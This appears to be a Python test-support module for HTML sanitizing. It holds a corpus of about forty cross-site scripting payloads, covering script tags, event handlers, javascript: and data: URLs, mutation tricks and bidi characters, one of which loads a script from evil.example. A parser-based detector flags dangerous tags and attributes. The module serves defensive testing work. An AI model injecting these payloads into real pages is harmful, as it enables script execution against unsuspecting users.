"""Markup that runs where it should be read, and an eye for what of it got through."""

from html.parser import HTMLParser

ALLOWED = frozenset(
    "a abbr b blockquote br code del em h1 h2 h3 h4 h5 i li ol p pre rp rt ruby s span strong sub sup u ul".split()
)
"""The elements that strangers may use."""

ACTIVE = frozenset(
    """applet audio base embed frame frameset iframe marquee math noembed noframes noscript object
    plaintext portal script style svg template video xmp""".split()
)
"""The elements that no page of ours has."""

ADDRESSES = frozenset("action cite data formaction href icon ping poster src srcset xlink:href".split())
MARK = "alert(20260607)"
"""What every attack would run."""

CORPUS = (
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script\n>{MARK}</script\t>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={MARK}>",
    f'<img src="x" oNeRrOr="{MARK}">',
    f"<img/src=`x`onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><style><img src=x onerror={MARK}></style></svg>",
    f'<svg><a xlink:href="javascript:{MARK}"><text>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}&gt;'>",
    f'<math><mi xlink:href="data:x,{MARK}">x</mi></math>',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}>",
    f'<a href="javascript:{MARK}">x</a>',
    f'<a href=" java\nscript:{MARK}">x</a>',
    f'<a href="jav&#x09;ascript:{MARK}">x</a>',
    f'<a href="&#106;avascript&colon;{MARK}">x</a>',
    f'<a href="vbscript:{MARK}">x</a><a href="data:text/html,<script>{MARK}</script>">y</a>',
    f'<a href="\x01javascript:{MARK}">x</a>',
    f'<a href="//evil.example/" onclick="{MARK}">x</a>',
    f'<a href="https://x.example/" style="background:url(javascript:{MARK})" onmouseover="{MARK}">x</a>',
    f'<iframe srcdoc="&lt;script&gt;{MARK}&lt;/script&gt;"></iframe><iframe src="javascript:{MARK}"></iframe>',
    f'<object data="data:text/html,<script>{MARK}</script>"></object><embed src="javascript:{MARK}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{MARK}"><base href="javascript:{MARK}//">',
    f'<form action="javascript:{MARK}"><button formaction="javascript:{MARK}">x</button></form>',
    f'<input autofocus onfocus="{MARK}"><details open ontoggle="{MARK}">x</details>',
    f'<video><source onerror="{MARK}"></video><audio src=x onerror="{MARK}"></audio>',
    f"<style>@import 'javascript:{MARK}';</style><link rel=stylesheet href='javascript:{MARK}'>",
    f"<template><script>{MARK}</script></template><textarea></textarea><img src=x onerror={MARK}>",
    f"<title></title><script>{MARK}</script>",
    f"<xmp><p title='</xmp><img src=x onerror={MARK}>'></xmp>",
    f"<!--><img src=x onerror={MARK}>--><![CDATA[<script>{MARK}</script>]]>",
    f"<?xml version='1.0'?><p/onclick={MARK}>x<p ONCLICK='{MARK}'>y",
    f'"><script>{MARK}</script>',
    f"'\"--></style></script><script>{MARK}</script>",
    f"</div></article></main><script>{MARK}</script>",
    f"{{{{7*7}}}}{{% raw %}}<script>{MARK}</script>",
    f"\u202e<script>{MARK}</script>\u2066",
    f"<p lang='\"><img src=x onerror={MARK}>'>x</p><ol start='\"onclick={MARK}'><li>x</ol>",
)

DISGUISES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\ufeff"
"""Characters that turn text around or cannot be seen (D8)."""


class _Reader(HTMLParser):
    def __init__(self, *, whole_page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.whole_page = whole_page
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if (tag in ACTIVE) if self.whole_page else (tag not in ALLOWED):
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in dict(attrs):
            self.found.append("<meta http-equiv>")
        for name, value in attrs:
            address = "".join(c for c in value or "" if ord(c) > 0x20).lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            elif name in ADDRESSES and not address.startswith(("http://", "https://", "/")):
                self.found.append(f"<{tag} {name}={value}>")
            elif name in ADDRESSES and address.startswith(("//", "/\\")):
                self.found.append(f"<{tag} {name}={value}>")


def dangers(html: str, *, whole_page: bool = False) -> list[str]:
    """The elements, handlers, styles and addresses in some HTML that could do anything.

    In what strangers wrote, every element counts that is not allowed them; in a whole page, every active one.
    """
    reader = _Reader(whole_page=whole_page)
    reader.feed(html)
    reader.close()
    return reader.found
